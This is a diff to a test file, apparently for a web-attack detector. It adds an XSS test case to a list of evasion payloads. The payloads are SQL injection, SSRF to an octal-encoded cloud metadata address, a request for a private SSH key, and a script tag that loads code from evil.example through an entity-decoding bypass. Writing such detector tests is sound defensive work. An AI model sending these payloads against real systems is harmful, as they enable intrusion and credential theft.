@@ -23,6 +23,8 @@ const evasions: [string, string][] = [
   ['/item.php?id=%5CNunion%20select%201,2', 'sqli'],
   ['/fetch?url=http%3A%2F%2F0251.0376.0251.0376%2Flatest%2Fmeta-data%2F', 'ssrf'],
   ['/id_ed25519', 'sensitive-file'],
+  // An unknown reference before the tag: entities 7.0.1 decoded `&xiAdY<` to `Á` and the tag was gone.
+  ['/search?q=&xiAdY<script%20src=//evil.example/x.js>', 'xss'],
 ];
 const ordinary = ['/products/42?ref=home', '/search?q=union+jack+mug', '/oauth/authorize?client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2Fcallback', '/api/users?fields=name;id;email'];
 
